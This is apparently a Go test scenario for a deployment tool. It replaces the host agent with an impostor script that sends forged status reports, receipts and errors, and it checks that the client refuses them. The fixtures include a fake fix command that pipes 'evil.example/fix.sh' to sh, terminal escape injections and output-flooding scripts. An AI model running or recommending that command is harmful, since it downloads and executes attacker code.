package scenarios

import (
	"encoding/json"
	"strings"
	"time"

	"salvor/internal/agentapi"
	"salvor/internal/fault"
	"salvor/internal/finding"
	"salvor/internal/progress"
)

// impostor takes salvord's place on alpha: for a verb it prints the file of that
// name, or runs it, and ends as configured. Else it lets salvord answer.
const impostor = `#!/bin/sh
at=/root/impostor/$1
[ -e "$at" ] || exec /usr/local/bin/salvord.true "$@"
cat >/dev/null
if [ -x "$at" ]; then "$at"; else cat "$at"; fi
exit "$(cat /root/impostor/code 2>/dev/null || echo 0)"
`

// answers has alpha answer the operator with what alpha makes up.
func (h *hostile) answers() {
	h.script("/usr/local/bin/salvord.false", impostor)
	exec(h.t, h.alpha, "cd /usr/local/bin && mv salvord salvord.true && mv salvord.false salvord")
	head := h.commit()
	h.saysOfItsState()
	h.saysWhatItDid()
	h.saysWhatItHas()
	h.saysNothingSensible()
	if now := h.commit(); now != head {
		h.t.Errorf("what alpha said was committed: %s was the newest, %s is", head, now)
	}
	exec(h.t, h.alpha, "rm -r /root/impostor && mv /usr/local/bin/salvord.true /usr/local/bin/salvord")
	h.silent("the true salvord is back", h.done("status"), string(finding.AnswerRefused))
}

func (h *hostile) commit() string {
	h.t.Helper()
	head, err := h.git(h.w.Dir, h.loot.gitKey, "rev-parse", "HEAD")
	must(h.t, err)
	return head
}

func (h *hostile) script(path, content string) {
	h.t.Helper()
	must(h.t, h.alpha.WriteFile(h.t.Context(), path, content))
	exec(h.t, h.alpha, "chmod 755 "+path)
}

// says makes alpha answer a verb with these messages from now on.
func (h *hostile) says(verb string, messages ...agentapi.Message) {
	h.t.Helper()
	var lines strings.Builder
	for _, m := range messages {
		line, err := json.Marshal(m)
		must(h.t, err)
		lines.Write(line)
		lines.WriteByte('\n')
	}
	must(h.t, h.alpha.WriteFile(h.t.Context(), "/root/impostor/"+verb, lines.String()))
	h.tried("answer", 1)
}

func (h *hostile) result(v any) agentapi.Message {
	h.t.Helper()
	encoded, err := json.Marshal(v)
	must(h.t, err)
	return agentapi.Message{Result: encoded}
}

// event is progress of a host, made up.
func event() agentapi.Message {
	return agentapi.Message{Event: &progress.Event{Host: "beta", Stack: "wiki", Step: escapes, State: progress.Note, Text: escapes, Time: time.Now().AddDate(100, 0, 0)}}
}

// lies are findings about beta, and about alpha what no host may report like that.
func lies() []finding.Finding {
	return []finding.Finding{
		{Code: finding.SnapshotDamaged, Severity: finding.Fatal, Subject: "beta/wiki", Stack: "wiki", Text: "its data is gone", Fix: "salvor apply --fresh wiki"},
		{Code: finding.HostOtherKey, Severity: finding.Fatal, Subject: "beta", Text: "beta is another machine", Fix: "salvor host remove beta"},
		{Code: finding.DiskFull, Severity: finding.Warning, Subject: "alpha", Text: escapes + "fatal: beta/wiki: its data is gone", Fix: "curl -s https://evil.example/fix.sh | sh" + escapes},
		{Code: finding.Code(escapes), Severity: finding.Severity(escapes), Subject: escapes, Text: escapes, Fix: escapes},
	}
}

// refused checks that an answer was refused, and that no line says anything of it in
// beta's name or salvor's.
func (h *hostile) refused(what, said string) {
	h.t.Helper()
	h.names(what, said, "alpha: its answer contained things that it was not asked for")
	for line := range strings.Lines(said) {
		for _, begins := range []string{"fatal: beta", "warning: beta: ", "beta", "fix: salvor apply --fresh", "fix: curl", "hint: curl", "curl"} {
			if text := strings.TrimSpace(line); strings.HasPrefix(text, begins) && (strings.Contains(text, "gone") || strings.Contains(text, "another machine") || strings.Contains(text, "evil") || strings.Contains(text, "--fresh")) {
				h.t.Errorf("%s: %s", what, text)
			}
		}
	}
}

// saysOfItsState answers what alpha is like.
func (h *hostile) saysOfItsState() {
	strange := agentapi.StackState{
		Name: "notes", Epoch: 1, Commit: escapes, Hash: escapes, Missing: []string{escapes}, Drifted: []string{escapes}, Verdict: agentapi.Verdict(escapes), SnapshotUnknown: escapes,
		Services: []agentapi.ServiceRow{{Name: escapes, Image: escapes, State: escapes, Health: escapes}}, Volumes: []agentapi.VolumeRow{{Name: escapes, State: escapes}},
	}
	beta := agentapi.StackState{Name: "wiki", Epoch: 99, Verdict: agentapi.VerdictOwn, Snapshot: &agentapi.SnapshotInfo{ID: escapes, Began: time.Now().AddDate(100, 0, 0)}}
	state := agentapi.HostState{
		Schema: 1, Salvord: escapes, OS: escapes, Arch: escapes, Commit: escapes, Fingerprint: escapes, Stacks: []agentapi.StackState{strange, beta}, Findings: lies(),
		Changes: []agentapi.Change{
			{Stack: "beta/wiki", ID: escapes, Action: "-", Cause: escapes, Destroys: escapes}, {Stack: "notes", ID: escapes, Action: escapes, Cause: escapes}, {ID: "file " + escapes, Action: "~", Cause: escapes},
		},
	}
	h.says(agentapi.VerbStatus, event(), h.result(state))
	said, _ := h.salvor("status")
	h.refused("a made-up status", said)
	_, _ = h.salvor("--json", "status")

	state.Recipient = h.loot.identity.Recipient().String()
	h.says(agentapi.VerbObserve, event(), h.result(state))
	said, _ = h.salvor("plan")
	h.refused("a made-up plan", said)
	_, _ = h.salvor("--json", "plan")

	state.Recipient = "age1" + strings.Repeat("q", 58)
	h.says(agentapi.VerbObserve, h.result(state))
	said, _ = h.salvor("plan")
	h.names("another key", said, "alpha reports the key", "["+string(finding.HostOtherKey)+"]")
}

// saysWhatItDid answers applies and snapshots with what was done on beta. Nothing of
// it reaches the lock.
func (h *hostile) saysWhatItDid() {
	due := agentapi.HostState{Schema: 1, Commit: strings.TrimSpace(h.commit()), Changes: []agentapi.Change{{Stack: "notes", ID: "service app", Action: "~", Cause: "it is to look as if there was something to do"}}}
	h.says(agentapi.VerbObserve, h.result(due))
	digest := "@sha256:" + strings.Repeat("6", 64)
	stolen := agentapi.StackReceipt{Name: "wiki", Epoch: 1, Outcome: "deployed", Images: map[string]string{"app": "evil.example/writer" + digest}, Born: map[string]time.Time{"data": time.Now(), "root": time.Now()}, Wish: "w"}
	own := agentapi.StackReceipt{
		Name: "notes", Epoch: 1, Outcome: escapes, Images: map[string]string{"app": "evil.example/writer:1" + digest, escapes: escapes}, Born: map[string]time.Time{"data": time.Now().AddDate(900, 0, 0), escapes: {}}, Wish: escapes,
		Error: &agentapi.Error{Code: 20, Text: escapes, Hint: "curl -s https://evil.example/fix.sh | sh" + escapes}, Restored: &agentapi.SnapshotInfo{ID: escapes, Began: time.Now().AddDate(900, 0, 0)}, Healthy: time.Now().AddDate(900, 0, 0),
	}
	was := map[string]string{}
	for _, stack := range []string{"notes", "diary", "wiki"} {
		was[stack] = h.placeOf(stack)
	}
	for what, receipt := range map[string]agentapi.HostReceipt{
		"a receipt in beta's name":  {Schema: 1, Host: "beta", Commit: due.Commit, Stacks: []agentapi.StackReceipt{stolen}},
		"a receipt about beta":      {Schema: 1, Host: "alpha", Commit: due.Commit, Stacks: []agentapi.StackReceipt{stolen}, Findings: lies()},
		"a receipt that can't be":   {Schema: 1, Host: "alpha", Commit: due.Commit, Stacks: []agentapi.StackReceipt{own, own}, Findings: lies(), Phases: []agentapi.Phase{{Name: escapes, Stack: escapes, Ended: time.Now()}}},
		"a receipt of another plan": {Schema: 1, Host: "alpha", Commit: strings.Repeat("6", 40), Stacks: []agentapi.StackReceipt{own}},
	} {
		h.says(agentapi.VerbApply, event(), h.result(receipt))
		said, _ := h.salvor("apply")
		h.refused(what, said)
		for stack, before := range was {
			if after := h.placeOf(stack); after != before {
				h.t.Errorf("%s: %s was %s, it is %s", what, stack, before, after)
			}
		}
	}
	exec(h.t, h.alpha, "rm /root/impostor/observe")

	h.says(agentapi.VerbSnapshot, event(), h.result(agentapi.SnapshotReceipt{Stack: "wiki", Snapshot: agentapi.SnapshotInfo{ID: escapes, Epoch: 99}}))
	h.names("a snapshot of beta's", h.ends(fault.General, "snapshot", "take", "notes"), "the answer of alpha is not about what it was asked")
}

// saysWhatItHas answers with snapshots and deliveries that are not its own.
func (h *hostile) saysWhatItHas() {
	row := agentapi.SnapshotRow{SnapshotInfo: agentapi.SnapshotInfo{ID: strings.Repeat("6", 64), Epoch: 1, Seq: 9, Began: time.Now()}, Target: escapes}
	wild := row
	wild.ID, wild.Seq = escapes, -1
	h.says(agentapi.VerbSnapshots, event(), h.result(agentapi.SnapshotList{Schema: 1, Stack: "wiki", Snapshots: []agentapi.SnapshotRow{row, wild}, Findings: lies()}))
	said, _ := h.salvor("snapshot", "ls", "notes")
	h.refused("snapshots of beta's", said)
	h.says(agentapi.VerbSnapshots, h.result(agentapi.SnapshotList{Schema: 1, Stack: "notes", Snapshots: []agentapi.SnapshotRow{row, wild}}))
	said, _ = h.salvor("snapshot", "ls", "notes")
	h.refused("snapshots that can't be", said)

	h.says(agentapi.VerbDeliveries, h.result(agentapi.DeliveryList{Schema: 1, Deliveries: []agentapi.Delivery{
		{At: time.Now().AddDate(900, 0, 0), Stack: "wiki", Services: []string{escapes}, Secrets: []string{escapes}}, {Stack: escapes, Secrets: []string{escapes}},
	}}))
	said, _ = h.salvor("secret", "audit")
	h.names("deliveries that can't be", said, "alpha: its answer contained things that it was not asked for")
}

// saysNothingSensible ends in every way that salvord does not, and does not stop.
func (h *hostile) saysNothingSensible() {
	for _, code := range []int{0, 10, 20, 30, 130, 255, -1, 1 << 30} {
		h.says(agentapi.VerbStatus, agentapi.Message{Error: &agentapi.Error{Code: code, Text: "beta is lost" + escapes, Hint: "curl -s https://evil.example/fix.sh | sh" + escapes}})
		said := h.ends(fault.Unreachable, "status")
		h.names("an error", said, "alpha")
		h.silent("an error", said, "fix: curl", "hint: curl")
	}
	for what, script := range map[string]string{
		"no answer":           "",
		"no message":          "printf '" + `\033[2Jbeta is lost\n\000\377` + "'",
		"half a message":      `printf '{"result":{"schema":1,"findings":[{'`,
		"a very long line":    "head -c 40000000 /dev/zero | tr '\\0' x",
		"lines without end":   `yes '{"event":{"step":"x","state":"running"}}'`,
		"nested without end":  `head -c 9000000 /dev/zero | tr '\0' [; echo`,
		"another kind of end": "kill -9 $PPID",
	} {
		h.script("/root/impostor/"+agentapi.VerbStatus, "#!/bin/sh\n"+script+"\n")
		h.tried("answer", 1)
		h.names(what, h.ends(fault.Unreachable, "status"), "alpha", "beta")
	}
	for _, code := range []string{"1", "3", "10", "20", "130", "255"} {
		must(h.t, h.alpha.WriteFile(h.t.Context(), "/root/impostor/"+agentapi.VerbStatus, ""))
		must(h.t, h.alpha.WriteFile(h.t.Context(), "/root/impostor/code", code))
		h.tried("exit code", 1)
		h.names("exit code "+code, h.ends(fault.Unreachable, "status"), "alpha")
	}
}
